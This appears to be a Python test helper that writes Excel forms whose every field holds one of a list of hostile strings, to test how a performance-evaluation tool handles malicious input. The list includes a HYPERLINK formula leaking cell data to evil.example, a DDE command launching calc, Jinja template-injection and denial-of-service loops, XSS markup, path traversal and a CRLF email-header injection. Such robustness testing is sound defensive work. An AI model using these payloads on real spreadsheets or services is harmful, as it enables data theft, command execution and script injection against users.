"""Forms filled by somebody who means harm: every field of a form says the same, by turns each of a list of texts.

`HOSTILE` are texts that some program somewhere takes for something else than text. `forms_into` types each of them into
every place of a pack's official form, beside it, and into the name of its sheet: once everywhere, so that nothing can
be scored, and once into all but the numbers, so that the form is finished.
"""

from __future__ import annotations

import io
import re
from functools import cache
from pathlib import Path
from xml.sax.saxutils import escape

import openpyxl

from perfeval.pack import load_pack
from perfeval.pipeline import layout_of
from tests.support.clerk import filled
from tests.support.foreign import members, with_members

__all__ = ["COMPUTED", "HARMLESS", "HOSTILE", "form", "forms_into"]

_TOKEN = "PLACEHOLDER"  # what stands in every place until a text takes its stead

HARMLESS = "文字"
COMPUTED = "1787569"  # what `{{ 1337*1337 }}` would come to
HOSTILE = {
    "链接": '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
    "命令": "=cmd|'/C calc'!A0",
    "加号": "+1+1",
    "减号": "-1+1",
    "函数": "@SUM(1,2)",
    "制表": "\t=1+1",
    "换行": "\n=1+1",
    "全角": "\uff1d1+1",
    "引号": '","=1+1","',
    "模板": "{{ 1337*1337 }}{% for x in range(9) %}{{ x.__class__.__mro__[1].__subclasses__() }}{% endfor %}",
    "脚本": "<script>alert(1)</script><img src=x onerror=alert(1)><a href='http://evil.example'>x</a>",
    "标记": "]]></t></is><f>1+1</f><is><t>&amp;",
    "路径": "../../../evil",
    "盘符": "C:\\Windows\\evil.txt",
    "设备": "CON",
    "信头": "x\r\nBcc: all@evil.example\r\n\r\n<b>",
    "终端": "_x001B_[31m红_x0007_\u202egnp",
    "回车": "\r=1+1",
    "未完": "{% raw %}",
    "注释": "#}{{ 1337*1337 }}{#",
    "循环": "{% for a in range(999999) %}{% for b in range(999999) %}{% endfor %}{% endfor %}",
    "规则": '"""\nid = "evil"\n[x]',
    "名称": "_xlnm.Print_Area",
    "长文": "长" * 4000,
    "平常": HARMLESS,
}


@cache
def _pattern(pack_id: str, everywhere: bool) -> bytes:
    """The official form with the token in every place a person can type into, or in all but the numbers."""
    pack = load_pack(pack_id)
    layout = layout_of(pack)
    fields = dict.fromkeys(layout.places, _TOKEN) | ({"year": "2024"} if "year" in layout.places else {})
    if not everywhere:
        fields |= {path: "100" for path in fields if path.startswith("funds.")}
    rows = []
    for group in pack.groups:
        share = group.points / max(len(group.kinds), 1)
        for kind in group.kinds:
            row = {**dict.fromkeys(layout.columns, _TOKEN), "level1.name": group.name, "level2.name": kind.name}
            if not everywhere:
                row |= {
                    "indicator.target": "≥10个",
                    "indicator.actual": "12个",
                    "indicator.weight": f"{float(share):g}",
                }
                row |= (
                    {"indicator.score": f"{float(share):g}", "indicator.name": kind.indicators[0].name}
                    if (kind.indicators)
                    else {"indicator.name": f"{kind.name}{_TOKEN}"}
                )
            rows.append(row)
    book = openpyxl.load_workbook(io.BytesIO(filled(pack, fields, rows, total=_TOKEN)))
    sheet = book.worksheets[0]
    sheet.title = _TOKEN
    sheet.cell(sheet.max_row // 2, layout.last_column + 2).value = _TOKEN
    book.properties.title = book.properties.creator = _TOKEN
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def form(pack_id: str, text: str, *, everywhere: bool = True) -> bytes:
    """The form of a pack with `text` in its places."""
    typed = escape(text, {"\r": "&#13;"})  # as a text, or the parser turns it into a line feed
    plain = escape(re.sub("[\x00-\x1f]", " ", text)[:200])
    title = escape(re.sub(r"[\x00-\x1f\[\]:*?/\\']|_x00..", "", text)[:25].strip() or "表", {'"': "&quot;"})
    said = {"docProps/core.xml": plain, "xl/workbook.xml": title, "xl/worksheets/sheet1.xml": typed}
    parts = {name: data.decode() for name, data in members(_pattern(pack_id, everywhere)).items()}
    assert {name for name, data in parts.items() if _TOKEN in data} == said.keys()
    spaced = {name: data.replace(f"<t>{_TOKEN}", f'<t xml:space="preserve">{_TOKEN}') for name, data in parts.items()}
    changed = {name: spaced[name].replace(_TOKEN, words).encode() for name, words in said.items()}
    return with_members(_pattern(pack_id, everywhere), changed)


def forms_into(folder: Path, pack_id: str, *, everywhere: bool) -> None:
    """The forms of a pack, with each of the texts, as files in `folder`."""
    folder.mkdir(parents=True, exist_ok=True)
    for key, text in HOSTILE.items():
        (folder / f"{pack_id}-{key}-{'全' if everywhere else '半'}.xlsx").write_bytes(
            form(pack_id, text, everywhere=everywhere)
        )
